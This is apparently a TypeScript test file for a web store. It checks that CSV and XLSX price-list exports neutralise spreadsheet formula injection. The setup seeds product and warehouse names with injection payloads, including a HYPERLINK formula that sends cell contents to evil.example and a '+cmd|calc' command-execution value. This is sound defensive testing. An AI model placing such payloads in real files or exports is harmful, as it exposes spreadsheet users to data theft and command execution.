// Issue 12 #1: the CSV price list must never hand a spreadsheet a formula.
import { expect } from 'chai';
import type { Runtime } from '../../src/infra/runtime.ts';
import { invalidateWarehouses } from '../../src/store/catalog/availability.ts';
import { createApp } from '../../src/web/app.ts';
import { PASSWORD, type StoreFixture, storeFixture } from '../support/mirror-fixtures.ts';
import { testRuntime, truncate } from '../support/runtime.ts';
import { listen, WebClient } from '../support/web-client.ts';

/** Splits one semicolon CSV line, honouring "…" quoting. */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let q = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (q) {
      if (ch === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') q = false;
      else cur += ch;
    } else if (ch === '"') q = true;
    else if (ch === ';') {
      out.push(cur);
      cur = '';
    } else cur += ch;
  }
  out.push(cur);
  return out;
}

describe('security: CSV price list formula injection', () => {
  let rt: Runtime;
  let srv: Awaited<ReturnType<typeof listen>>;
  let fx: StoreFixture;

  before(async () => {
    rt = await testRuntime();
    srv = await listen(createApp(rt));
    await truncate(rt, 'sources', 'users', 'clients', 'sessions');
    fx = await storeFixture(rt.db, { products: 2 });
    await rt.db('products').where({ id: fx.products[0] }).update({ name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', sku: '=1+2', unit: '@SUM(A1)' });
    await rt.db('offers').where({ id: fx.offers[0] }).update({ sku: '=1+2', name: null });
    await rt.db('products').where({ id: fx.products[1] }).update({ name: '\tTab name', unit: '\rcr' });
    await rt.db('offers').where({ id: fx.offers[1] }).update({ sku: '-2+3', name: null });
    await rt.db('warehouses').where({ id: fx.warehouses.north }).update({ name: '+cmd|calc' });
    invalidateWarehouses(rt.db);
  });
  after(() => srv.close());

  it('prefixes cells starting with = + - @ tab or CR with a quote, header included; numbers stay numbers', async () => {
    const a = new WebClient(srv.base);
    await a.login(fx.emails.a, PASSWORD);
    const csv = await a.get('/pricelist.csv');
    expect(csv.status).to.equal(200);
    const lines = csv.text.replace(/^\ufeff/, '').split('\r\n').filter(Boolean);
    const header = cells(lines[0]!);
    expect(header).to.include("'+cmd|calc");
    const rows = lines.slice(1).map(cells);
    const first = rows.find((r) => r[0] === "'=1+2")!;
    expect(first, lines.join('\n')).to.not.equal(undefined);
    expect(first[1]).to.equal(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(first[2]).to.equal("'@SUM(A1)");
    expect(first[3]).to.match(/^\d+\.\d\d$/); // the price stays a number
    expect(first[6]).to.match(/^\d+$/);
    const second = rows.find((r) => r[0] === "'-2+3")!;
    expect(second[1]).to.equal("'\tTab name");
    expect(second[2]).to.equal("'\rcr");
    // No cell anywhere starts with a formula trigger unless it is a plain number.
    for (const c of [...header, ...rows.flat()]) {
      if (/^[=+\-@\t\r]/.test(c)) expect(c, c).to.match(/^-?\d+(\.\d+)?$/);
    }
  });

  it('writes such names into the XLSX as text cells, never as formulas', async () => {
    const a = new WebClient(srv.base);
    await a.login(fx.emails.a, PASSWORD);
    const x = await fetch(`${srv.base}/pricelist.xlsx`, { headers: { cookie: [...a.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await x.arrayBuffer()) as never);
    const ws = wb.getWorksheet('Цены')!;
    const types = new Set<number>();
    ws.eachRow((row) => row.eachCell((c) => void types.add(c.type)));
    expect(types.has(ExcelJS.ValueType.Formula)).to.equal(false);
    expect(ws.getRow(2).values).to.include('+cmd|calc');
  });
});
